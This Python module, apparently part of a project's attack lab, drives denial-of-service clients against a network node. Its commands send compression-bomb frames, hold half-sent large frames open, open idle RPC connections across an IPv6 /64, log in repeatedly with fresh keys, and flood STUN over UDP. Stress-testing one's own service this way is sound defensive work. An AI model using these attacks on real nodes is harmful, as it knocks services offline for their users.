"""`python -m lab.attack.abuser`: clients that abuse a node, on plain sockets; commands come by `obey`.

It runs on the attacker's machine with the lowest priority, so that on two cores the attacker's own work is
not mistaken for the node's.
"""

from __future__ import annotations

import asyncio
import os
import socket
import time
from contextlib import suppress

from lab.attack.client import Client, frame_head
from lab.attack.commands import obey
from lab.sides import RPC_PORT, WS_PORT
from nconnect.crypto.keys import Identity
from nconnect.model import STUN_PORTS
from nconnect.wire.nkn import OutboundMessage
from nconnect.wire.stun import TRANSACTION_BYTES, encode_request

TIMEOUT_S = 5.0
BINARY = 2


def connect(node: str, source: str) -> Client:
    """A client with a key of its own, connected from `source` and not logged in. Raises `OSError`."""
    sock = socket.socket(socket.AF_INET6 if ":" in node else socket.AF_INET, socket.SOCK_STREAM)
    try:
        sock.settimeout(TIMEOUT_S)
        sock.bind((source, 0))
        sock.connect((node, WS_PORT))
    except OSError:
        sock.close()
        raise
    return Client(sock, Identity(os.urandom(32)), "abuser")


class Abuser:
    """Commands by name. Open connections stay open until `let_go`."""

    def __init__(self) -> None:
        self._open: list[Client | socket.socket] = []

    async def do(self, name: str, *words: str) -> object:
        return getattr(self, name)(*words)

    def inflate(self, node: str, source: str, seconds: str) -> int:
        """Send frames of 4 KB that inflate to 4 MiB, 50 at once, for `seconds`; return how many."""
        client = connect(node, source).log_in()
        zeros = OutboundMessage((client.address,), (bytes(4_000_000),)).encode(compress=True)
        burst = (frame_head(BINARY, len(zeros)) + zeros) * 50
        sent, deadline = 0, time.monotonic() + float(seconds)
        with suppress(OSError):
            while time.monotonic() < deadline:
                client.sock.sendall(burst)
                sent += 50
                time.sleep(50 * len(zeros) / 2.8e6)
        client.close()
        return sent

    def half_frames(self, node: str, source: str, count: str) -> int:
        """Open connections that send half of a large frame before login; return how many bytes were sent."""
        sent = 0
        for _ in range(int(count)):
            with suppress(OSError):
                client = connect(node, source)
                self._open.append(client)
                client.upgrade()
                client.sock.settimeout(0.2)
                client.sock.sendall(frame_head(BINARY, 4 << 20))
                for _ in range(32):
                    client.sock.sendall(bytes(64 << 10))
                    sent += 64 << 10
        return sent

    def idle_rpc(self, node: str, source: str, count: str) -> int:
        """Open RPC connections from a /64 and ask nothing; return how many."""
        for n in range(int(count)):
            with suppress(OSError):
                sock = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
                self._open.append(sock)
                sock.settimeout(1)
                sock.bind((f"{source}{2 + n % 10:x}", 0))
                sock.connect((node, RPC_PORT))
        return len(self._open)

    def log_in_often(self, node: str, source: str, count: str) -> int:
        """Log in with new keys and stay; return how many logins succeeded."""
        done = 0
        for _ in range(int(count)):
            with suppress(OSError, ValueError, KeyError):
                client = connect(node, source)
                self._open.append(client)
                client.log_in()
                done += 1
        return done

    def stun_flood(self, node: str, source: str, seconds: str) -> dict[str, int]:
        """Plain STUN requests of 20 bytes, 32 at once, for so long; what was sent, and what came back."""
        request = encode_request(bytes(TRANSACTION_BYTES))
        counts = {"requests": 0, "answers": 0}
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.bind((source, 0))
            sock.connect((node, STUN_PORTS[0]))
            deadline = time.monotonic() + float(seconds)
            while time.monotonic() < deadline:
                for _ in range(32):
                    sock.send(request)
                counts["requests"] += 32
                with suppress(BlockingIOError):
                    while sock.recv(100, socket.MSG_DONTWAIT):
                        counts["answers"] += 1
                time.sleep(0.001)
        return counts

    def let_go(self) -> None:
        for each in self._open:
            each.close()
        self._open.clear()


async def _main() -> None:
    os.nice(19)
    await obey(Abuser().do)


if __name__ == "__main__":
    asyncio.run(_main())
